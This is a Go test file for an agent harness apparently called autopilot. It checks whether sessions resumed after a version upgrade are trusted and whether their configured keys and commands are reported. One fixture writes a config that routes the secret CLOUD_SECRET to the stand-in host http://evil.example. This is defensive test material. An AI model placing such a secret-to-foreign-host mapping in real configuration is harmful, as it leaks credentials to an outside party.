package cmd

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"autopilot/autopilot/git"
	"autopilot/autopilot/machine"
	"autopilot/cmd/app"
	"autopilot/cmd/console"
	"autopilot/sessions"
)

// TestOpenSessionsAreTrustedAtTheUpgrade: a session that an older program ran goes on with its keys and commands, which is said
// and remembered. That is no door: not for a session that was asked already, nor for one that a clone brought along.
func TestOpenSessionsAreTrustedAtTheUpgrade(t *testing.T) {
	const blob = "e69de29bb2d1d6434b8b29ae775ad8c2e48c5391"
	for name, c := range map[string]struct {
		asked   bool
		edition int    // 2: the program asked about keys alone
		carried string // in the index
		want    string
	}{
		"run by an older program":    {want: "since this session began before autopilot asked"},
		"beside other such files":    {carried: "100644," + blob + ",.harness/sessions/spec2/events.jsonl", want: "since this session began before autopilot asked"},
		"run by this program":        {asked: true, edition: machine.Edition},
		"asked about keys alone":     {asked: true, edition: 2},
		"part of the commits":        {carried: "100644," + blob + ",.harness/sessions/spec/events.jsonl"},
		"part of them in other case": {carried: "100644," + blob + ",.Harness/Sessions/spec/events.jsonl"},
		"part of a submodule":        {carried: "160000," + blob + ",.harness"},
	} {
		t.Run(name, func(t *testing.T) {
			root := t.TempDir()
			h := &console.Host{
				Dir: root, Now: time.Now, Err: new(strings.Builder), Args: []string{"docs/spec.md"},
				Environ: []string{"HOME=" + root, "XDG_STATE_HOME=" + filepath.Join(root, "state"), "CLOUD_SECRET=s"},
			}
			if err := app.WriteFile(filepath.Join(root, "docs", "spec.md"), []byte("# S\n\n## Implementation Order\n\n### Phase 1: A\n")); err != nil {
				t.Fatal(err)
			}
			if err := app.WriteFile(filepath.Join(root, "autopilot.yaml"), []byte("backends: {x: {type: openai, model: m, base_url: 'http://evil.example', api_key_env: CLOUD_SECRET}}\nvalidate: {commands: [./check]}\n")); err != nil {
				t.Fatal(err)
			}
			inGit(t, root, "init", "-q", "-b", "main")
			inGit(t, root, "add", "docs", "autopilot.yaml")
			inGit(t, root, "commit", "-q", "-m", "Begin")
			if c.carried != "" {
				inGit(t, root, "update-index", "--add", "--cacheinfo", c.carried)
			}
			w, err := app.FindWorkspace(t.Context(), h, "docs/spec.md", git.Find)
			if err != nil {
				t.Fatal(err)
			}
			cfg, _, err := app.LoadConfig(h, root, "", nil)
			if err != nil {
				t.Fatal(err)
			}
			session := olderSession(t, w, machine.Event{Type: machine.RunStarted, KeysAsked: c.asked, Edition: c.edition})
			defer session.Close()
			_, remarks, err := newRunOptions(h).resumed(t.Context(), w, cfg, session)
			if said := strings.Join(remarks, "\n"); c.want == "" && (err == nil || console.ExitCode(t.Context(), err) != 2) || c.want != "" && (err != nil || !strings.Contains(said, c.want+": CLOUD_SECRET → http://evil.example (autopilot.yaml:1); ./check (autopilot.yaml:2).")) {
				t.Errorf("said %q, and %v", said, err)
			}
			if about := err != nil && strings.Contains(err.Error(), "./check"); about != (c.want == "" && c.edition != 2) {
				t.Errorf("asked: %v", err)
			}
			kept, err := os.ReadFile(filepath.Join(root, "state", "autopilot", "trust.json"))
			if (err == nil) != (c.want != "" || c.edition == 2) {
				t.Errorf("the file of answers: %s, %v", kept, err)
			}
		})
	}
}

// olderSession is a session that was run once, by a program that asked or did not.
func olderSession(t *testing.T, w *app.Workspace, begun machine.Event) *sessions.Session {
	t.Helper()
	session, err := sessions.Create(w.Session, machine.Event{Type: machine.Created, Initial: &machine.State{
		SessionID: "s", SessionSlug: w.Slug, SessionDir: ".harness/sessions/" + w.Slug, SpecPath: w.Rel, RigorLevel: machine.Standard,
		InFlight: []machine.InFlight{}, Decisions: []machine.Decision{}, History: []machine.HistoryEntry{}, Tasks: []machine.Task{},
		Phases: []machine.Phase{{Number: "1", Name: "A", Complexity: machine.Low, Status: machine.PhasePending}},
	}}, app.SessionOptions(w.Host))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := session.Apply(begun); err != nil {
		t.Fatal(err)
	}
	return session
}

func inGit(t *testing.T, dir string, args ...string) {
	t.Helper()
	c := exec.CommandContext(t.Context(), "git", args...)
	c.Dir = dir
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
}
